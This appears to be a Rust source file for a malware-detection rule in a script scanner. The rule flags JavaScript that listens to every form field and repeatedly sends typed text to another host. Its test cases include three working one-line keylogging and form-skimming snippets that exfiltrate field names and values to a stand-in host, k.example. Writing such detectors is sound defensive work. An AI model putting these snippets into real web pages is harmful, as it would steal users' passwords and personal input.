//! `every-typing-sent`.

use crate::facts::Atom;
use crate::signals::near::Near;
use crate::signals::{Evidence, Held, Signal, one};
use crate::stream::Kind;
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "every-typing-sent",
    description: "The script collects the text typed into every field, with the field's name, and sends it to another host repeatedly.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[one(&[Atom::FieldSentAbroad])],
    within: 0,
    only_if: Some(takes_all),
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            "let b=[];document.addEventListener('input',e=>{b.push({n:e.target.name,v:e.target.value,u:location.href})},true);setInterval(()=>{fetch('https://k.example/i',{method:'POST',body:JSON.stringify(b)});b=[]},3000)",
            "document.querySelectorAll('input').forEach(i=>i.addEventListener('keyup',e=>fetch('https://k.example/?n='+i.name+'&v='+e.target.value)))",
            "document.querySelectorAll('input, textarea').forEach(i=>{i.addEventListener('input',()=>{fetch('https://k.example/k',{method:'POST',body:JSON.stringify({f:i.id,v:i.value})})})})",
        ],
        without: &[
            "document.querySelectorAll('input').forEach(i=>i.addEventListener('keyup',e=>fetch('/draft?n='+i.name+'&v='+e.target.value)))",
            "document.querySelectorAll('input').forEach(i=>i.addEventListener('focus',e=>fetch('https://k.example/?n='+i.name)))",
            "document.querySelectorAll('.search input').forEach(i=>i.addEventListener('keyup',e=>fetch('https://find.example/?n='+i.name+'&q='+e.target.value)))",
            "let b=[];form.addEventListener('input',e=>{b.push({n:e.target.name,v:e.target.value})});setInterval(()=>{fetch('https://draft.example/i',{method:'POST',body:JSON.stringify(b)});b=[]},3000)",
            "let n=0;document.addEventListener('input',e=>{n++},true);setInterval(()=>{fetch('https://k.example/i',{method:'POST',body:q.value+n})},3000)",
        ],
    },
};

fn takes_all(evidence: &Evidence<'_>, held: Held) -> bool {
    let far = Near::new(evidence, held, 280);
    far.has_fact(&[Atom::Repeat]) && hears_all(far) || hears_each(Near::new(evidence, held, 60))
}

/// Whether each field of the page is listened to, and what is typed is sent with its name at once.
fn hears_each(near: Near<'_>) -> bool {
    near.words(&["forEach"]).any(|at| {
        let all = near.is(at.wrapping_sub(1), b')')
            && matches!(near.before(at, 4), "querySelectorAll" | "getElementsByTagName")
            && near.before(at, 5) == "document"
            && near.before(at, 2).split(',').all(|part| {
                let part = part.trim();
                part.starts_with("input") || matches!(part, "textarea" | "select" | "form input")
            });
        let Some(body) = near.function_in(at + 1..at + 4).filter(|_| all) else { return false };
        let inside = near.among(body);
        inside
            .words(&["addEventListener"])
            .any(|at| matches!(near.word(at + 2), "input" | "keyup" | "keydown" | "blur"))
            && inside.words(&["value"]).next().is_some()
            && inside.words(&["name", "id", "type"]).next().is_some()
            && inside.has_fact(&[Atom::FieldSentAbroad])
    })
}

fn hears_all(near: Near<'_>) -> bool {
    near.words(&["addEventListener"]).any(|at| {
        let heard = matches!(near.word(at + 2), "input" | "change" | "keyup" | "blur" | "focusout");
        let of_page = matches!(near.before(at, 1), "document" | "window" | "body");
        let kept = at + 3..at + 60;
        heard
            && of_page
            && kept.clone().any(|at| near.word(at) == "target" && near.word(at + 1) == "value")
            && kept.clone().any(|at| {
                near.word(at) == "push" && near.kind(at) == Some(Kind::Member) || near.word(at + 1) == "name"
            })
    })
}
